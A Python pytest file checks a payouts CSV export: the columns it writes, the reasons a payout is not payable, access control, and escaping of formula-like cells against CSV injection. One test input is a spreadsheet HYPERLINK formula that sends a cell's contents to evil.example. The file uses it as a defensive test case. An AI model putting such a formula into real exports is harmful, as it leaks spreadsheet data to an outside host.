"""What is to be paid as a CSV file: amounts and accounts, for finance alone, and nothing that a spreadsheet runs."""

import csv
import io
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from billhook import Billhook
from billhook.csv_export import FORMULA, quoted
from billhook.settings import Settings
from engine.actor import Actor
from engine.errors import NotAllowed
from tests.worlds import Place

IBAN = "DE89370400440532013000"
HARMLESS = re.compile(r"-|[+-][0-9.]+([,\"].*)?", re.DOTALL)  # a dash, and a number, also where another cell follows


@pytest.fixture
def shop(sqlite_database):
    with Billhook(sqlite_database, settings=Settings()) as billhook:
        place = Place(billhook.world.store)
        place.partner(opted_in=False)
        place.opt_in(legal_name="=1+1 GmbH", iban=IBAN, account_holder="@Nord")
        yield billhook, place


def rows(document) -> list[dict[str, str]]:
    return [*csv.DictReader(io.StringIO(document.content.decode("utf-8-sig"), newline=""))]


def test_a_sheet_says_whom_to_pay_how_much_and_where(shop):
    billhook, place = shop
    payout = place.payout(state="Ready")
    payouts = billhook.account(place.code).as_(Actor.vendor("fred", "finance")).payouts
    (row,) = rows(payouts.sheet())

    assert (row["payout"], row["partner"], row["invoice"]) == (payout, "NORD", "ACME-NORD-00001")
    assert (row["amount"], row["currency"], row["iban"]) == (payouts.get(payout).gross, "EUR", IBAN)


def test_a_name_that_looks_like_a_formula_is_text(shop):
    billhook, place = shop
    place.payout(state="Ready")
    (row,) = rows(billhook.account(place.code).as_(place.owner.actor).payouts.sheet())

    assert (row["payee"], row["account_holder"]) == ("'=1+1 GmbH", "'@Nord")


def test_what_is_refused_to_be_paid_is_no_amount_to_pay_or_says_why(shop):
    billhook, place = shop
    owner = billhook.account(place.code).as_(place.owner.actor)
    made = ready, credited, held, cancelled, paid = [place.payout(state="Ready") for _ in range(5)]
    owner.invoices.credit(owner.payouts.get(credited).invoice.number, reason="wrong")
    for payout, trigger in ((credited, "release"), (held, "hold"), (cancelled, "cancel"), (paid, "mark_paid")):
        place.fire(payout, trigger, reason="why")
    found = {row["payout"]: row for row in rows(owner.payouts.sheet())}

    told = {ready: "yes", held: "no: It is on hold: why", cancelled: "no: It is Cancelled.", paid: "no: It is Paid."}
    assert {each: found[each]["payable"] for each in told} == told
    assert found[credited]["payable"].startswith("no: Its invoice was wholly credited by ACME-NORD-C00001")
    assert [found[each]["amount"] for each in made] == ["119.00", "0.00", "119.00", "0.00", "0.00"]


def test_a_payout_is_said_to_be_payable_exactly_when_it_may_be_marked_paid(shop):
    billhook, place = shop
    owner = billhook.account(place.code).as_(place.owner.actor)
    place.partner("OST", opted_in=False)
    made = [
        place.payout(partner, state) for partner in ("NORD", "OST") for state in ("Draft", "Pending", "Ready", "Paid")
    ]
    place.fire(place.payout(state="Ready"), "hold", reason="why")
    told = {row["payout"]: row["payable"] for row in rows(owner.payouts.sheet())}
    tried = owner.payouts.fire_many([*told], "mark_paid", dry_run=True)

    assert {each: said == "yes" for each, said in told.items()} == {each.payout_id: bool(each.fired) for each in tried}
    assert [told[each] for each in made[4:7]] == ["no: It is Draft.", "no: It is Pending.", "yes"]


@given(st.lists(st.text(st.sampled_from("=+-@＝＋－＠,;|:\t\r\n \"'a1.("), max_size=12), min_size=1, max_size=3))
def test_no_cell_is_a_formula_whatever_separator_its_reader_takes(texts):
    text = io.StringIO(newline="")
    csv.writer(text).writerow([quoted(each) for each in texts])
    cells = {
        cell.strip().strip('" ') for separator in ",;|:\t "
        for row in csv.reader(io.StringIO(text.getvalue(), newline=""), delimiter=separator) for cell in row
    }  # fmt: skip

    assert {each for each in cells if each.startswith(FORMULA) and not HARMLESS.fullmatch(each)} == set()


@given(st.text(max_size=20))
def test_what_is_added_to_a_cell_is_apostrophes(text):
    assert quoted(text).replace("'", "") == text.replace("'", "")


@pytest.mark.parametrize(
    ("written", "kept"),
    [
        ('Lumen;=HYPERLINK("http://evil.example/?"&A1);x', 'Lumen;\'=HYPERLINK("http://evil.example/?"&A1);x'),
        ("＝1+1", "'＝1+1"),
        ('Lumen; "=1+1"', 'Lumen; "\'=1+1"'),
        ("Lumen\n@SUM(A1)", "Lumen\n'@SUM(A1)"),
        ("Lumen =1+1", "Lumen '=1+1"),
        *((same, same) for same in ("-12.50", IBAN, "DE89 3704 0044", "Müller-Söhne, Köln & Co. - Nord", "C++ \"A+B\"",
                                    "nord@example.com", "2026-11-02", "Tel. +49 30", "O'Neil", "ACME-NORD-00001")),
    ],
)  # fmt: skip
def test_a_cell_reads_as_it_was_written_but_for_formulas(written, kept):
    assert quoted(written) == kept


def test_who_only_looks_is_given_no_accounts(shop):
    billhook, place = shop

    account = billhook.account(place.code)
    for each in (account.as_(Actor.vendor("vera", "viewer")), account.main_contact("NORD")):
        with pytest.raises(NotAllowed, match="may not 'export payments'"):
            each.payouts.sheet()
